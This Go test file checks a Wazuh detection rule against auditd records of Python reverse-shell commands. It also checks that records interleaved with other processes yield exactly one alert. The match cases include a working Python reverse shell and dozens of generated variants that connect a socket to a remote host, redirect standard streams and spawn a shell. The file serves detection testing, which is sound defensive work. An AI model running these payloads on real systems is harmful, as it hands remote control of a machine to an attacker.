package wazuh_test

import (
	"os"
	"slices"
	"strings"
	"testing"

	"github.com/auditpy/auditpy/internal/audit"
	"github.com/auditpy/auditpy/internal/event"
	"github.com/auditpy/auditpy/rules/rule"
)

// seedRule is a published rule, as it was published: testdata/seed. Its pattern stands on a line of its own, and looks at a
// field that Wazuh's decoders never fill.
func seedRule(t testing.TB) rule.File {
	t.Helper()
	data, err := os.ReadFile("testdata/seed/100620.xml")
	if err != nil {
		t.Fatal(err)
	}
	return rule.File{Name: "100620.xml", Data: data}
}

// payload is the one that its author tested, line breaks and all.
const payload = "import socket,os,pty;\ns=socket.socket();\ns.connect((os.getenv(\"RHOST\"),int(os.getenv(\"RPORT\"))));\n[os.dup2(s.fileno(),fd) for fd in (0,1,2)];\npty.spawn(\"sh\")"

func TestSeedVariants(t *testing.T) {
	e := compile(t, seedRule(t))
	const (
		explicit = `os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);`
		looped   = `[os.dup2(s.fileno(),fd) for fd in (0,1,2)];`
		plain    = `s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("192.0.2.1",9001));`
		getenv   = `s=socket.socket();s.connect((os.getenv("RHOST"),int(os.getenv("RPORT"))));`
	)
	var match []execution
	for _, python := range []string{"python", "python3", "/usr/bin/python3", "PYTHON"} {
		for _, imports := range []string{"import socket,os,pty;", "import os,pty,socket;", "import pty;import socket;import os;", "import socket, os, pty\n"} {
			for _, connect := range []string{plain, getenv} {
				for _, dup := range []string{explicit, looped, "for f in range(3): os.dup2 (s.fileno(), f)\n"} {
					for _, spawn := range []string{`pty.spawn("sh")`, `pty.spawn('bash')`, `pty.spawn( "bash" )`, `pty.spawn('sh');s.close()`} {
						match = append(match, execution{exe: "/usr/bin/python3.11", args: []string{python, "-c", imports + connect + dup + spawn}})
					}
				}
			}
		}
	}
	match = append(match,
		execution{exe: "/usr/bin/python3.11", args: []string{"python", "-c", payload}},
		execution{exe: "/usr/bin/env", args: []string{"env", "X=1", "python3", "-c", payload, ""}},
		execution{exe: "/usr/bin/python3.11", args: []string{"python3", "-c", payload, strings.Repeat("padding ", 1<<14)}},
		execution{exe: "/usr/bin/python3.11", args: []string{"python3", "-c", strings.Repeat("#\xff\x01\n", 1<<14) + payload}},
	)
	// Low and moderate reliability, in the author's table, and what is close to the payload.
	mismatch := []execution{
		{exe: "/usr/bin/python3.11", args: []string{"python3", "-c", "import socket;" + plain}},
		{exe: "/usr/bin/python3.11", args: []string{"python3", "-c", "import socket,os;" + plain + looped}},
		{exe: "/usr/bin/python3.11", args: []string{"python3", "-c", "import socket,os;" + plain + explicit + `os.system("sh")`}},
		{exe: "/usr/bin/python3.11", args: []string{"python3", "-c", "import pty;pty.spawn('sh')"}},
		{exe: "/usr/bin/python3.11", args: []string{"python3", "-c", "import socket,os,pty;" + plain + looped + `pty.spawn("/bin/sh")`}},
		{exe: "/usr/bin/python3.11", args: []string{"python3", "-c", "import socket,os,pty;" + looped + plain + `pty.spawn("sh")`}},
		{exe: "/usr/bin/perl", args: []string{"perl", "-e", "socket.socket connect( ) os.dup2( ) pty.spawn('sh')"}},
		{exe: "/usr/bin/python3.11", args: []string{"python3", "script.py"}},
		{exe: "/bin/ls", args: []string{"ls", "/"}},
	}
	for i, x := range append(match, mismatch...) {
		x.serial, x.pid, x.ppid, x.uid, x.cwd = 10+i, 4000+i, 900, "1001", "/"
		want := 1
		if i >= len(match) {
			want = 0
		}
		if got := newStages(t, e).run(x.records()); len(got) != want {
			t.Errorf("%d alerts of %.200q, want %d", len(got), x.args, want)
		}
	}
}

// capture is a log in which the records of the payload's execution lie between those of others, as auditd writes them when
// processes run at once.
func capture(t testing.TB) []string {
	t.Helper()
	all := func(serial int, exe string, args ...string) []string {
		return execution{at: float64(serial) / 1000, serial: serial, pid: 4000 + serial, ppid: 900, uid: "1001", cwd: "/home/marta", exe: exe, args: args}.records()
	}
	attack := all(501, "/usr/bin/python3.11", "python", "-c", payload)
	ls, grep, sh := all(500, "/usr/bin/ls", "ls", "-l"), all(502, "/usr/bin/grep", "grep", "-r", "pty.spawn"), all(503, "/usr/bin/dash", "sh", "-c", "python3 -V")
	return slices.Concat(
		ls[:2], attack[:1], ls[2:4], attack[1:2], grep[:1], ls[4:], attack[2:3], grep[1:3], sh[:3], attack[3:4], sh[3:4], attack[4:5], grep[3:], sh[4:], attack[5:],
	)
}

// TestSeedOnce: however the records interleave, the payload is one alert; and read again, none more.
func TestSeedOnce(t *testing.T) {
	s := newStages(t, compile(t, seedRule(t)))
	if got := s.run(capture(t)); !slices.Equal(got, []string{"100620"}) || s.seen != 4 {
		t.Fatalf("alerts %q of %d events, want 100620 of 4", got, s.seen)
	}
	if got := s.run(capture(t)); len(got) != 0 {
		t.Errorf("alerts %q of the same log again, want none", got)
	}
	a := s.alerts[0]
	if m := a.Rules[0]; a.Level != rule.High || m.Severity != 12 || m.Title != "Python reverse shell detected (socket + connect + dup2 + pty.spawn)" ||
		!slices.Equal(m.Techniques, []string{"T1059.006", "T1105"}) || !slices.Contains(m.Tags, "reverse_shell") {
		t.Errorf("alert of level %v, rule %+v", a.Level, m)
	}
	if ev := a.Evidence; len(ev) != 1 || ev[0].Field != "full_log" || !strings.HasPrefix(ev[0].Value, "python") || !strings.HasSuffix(ev[0].Value, `pty.spawn("sh")`) {
		t.Errorf("evidence %+v", ev)
	}
}

// pieces are what Wazuh's collector makes of a log: it joins lines that follow each other and have one ID.
// Source: https://github.com/wazuh/wazuh/blob/v4.14.7/src/logcollector/read_audit.c.
func pieces(records []audit.Record) (out [][]audit.Record) {
	for i, r := range records {
		if i == 0 || r.ID != records[i-1].ID {
			out = append(out, nil)
		}
		out[len(out)-1] = append(out[len(out)-1], r)
	}
	return out
}

// TestDuplicates shows the problem of several alerts for one execution: the same rule over the same log, read as it is
// commonly read, and as it is here.
func TestDuplicates(t *testing.T) {
	e := compile(t, group(`<rule id="100700" level="10"><field name="full_log" type="pcre2">(?i)\bpython</field><description>Python</description></rule>`))
	log := capture(t)
	records := make([]audit.Record, len(log))
	for i, line := range log {
		if err := records[i].Parse(line); err != nil {
			t.Fatal(err)
		}
	}
	const serial = 501
	alerts := func(groups [][]audit.Record) (n int) {
		for _, g := range groups {
			if g[0].ID.Serial == serial {
				n += len(e.Eval(nil, &event.Event{ID: g[0].ID, Records: g}))
			}
		}
		return n
	}
	var lines [][]audit.Record
	for _, r := range records {
		lines = append(lines, []audit.Record{r})
	}
	if got := alerts(lines); got != 4 { // SYSCALL, EXECVE, PATH, PROCTITLE
		t.Errorf("line by line: %d alerts, want 4", got)
	}
	if got := alerts(pieces(records)); got != 4 {
		t.Errorf("joined where lines follow each other: %d alerts, want 4", got)
	}
	s := newStages(t, e)
	s.run(log)
	n := 0
	for _, a := range s.alerts {
		if a.Time.UnixMilli() == records[slices.IndexFunc(records, func(r audit.Record) bool { return r.ID.Serial == serial })].ID.Msec {
			n++
		}
	}
	if n != 1 {
		t.Errorf("here: %d alerts, want 1", n)
	}
}
